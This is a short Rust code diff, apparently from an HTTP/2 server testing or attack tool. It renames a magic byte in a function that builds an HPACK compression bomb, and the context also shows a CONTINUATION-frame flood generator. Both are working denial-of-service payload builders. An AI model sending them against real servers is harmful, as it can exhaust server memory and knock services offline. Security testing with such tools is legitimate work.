@@ -100,10 +100,13 @@ fn empty_continuations(door: &Door, from: u32) -> Vec<u8> {
     [open, frames::frame(frames::CONTINUATION, 0, from, &[]).repeat(4000)].concat()
 }
 
+/// An indexed field: the one that was remembered last (RFC 7541, 6.1).
+const INDEXED_NEWEST: u8 = 0xbe;
+
 /// Each stream names a field of 4,000 bytes again and again, a byte each time.
 fn hpack_bomb(door: &Door, from: u32) -> Vec<u8> {
     let first = [&door.head[..], &frames::remembered(b"x", &[b'x'; 4000])].concat();
-    let again = [&door.head[..], &[0x80 | 62; 8000]].concat();
+    let again = [&door.head[..], &[INDEXED_NEWEST; 8000]].concat();
     let bombs = streams(from + 2).take(50).flat_map(|stream| frames::frame(1, 5, stream, &again));
     [frames::frame(1, 5, from, &first), bombs.collect()].concat()
 }
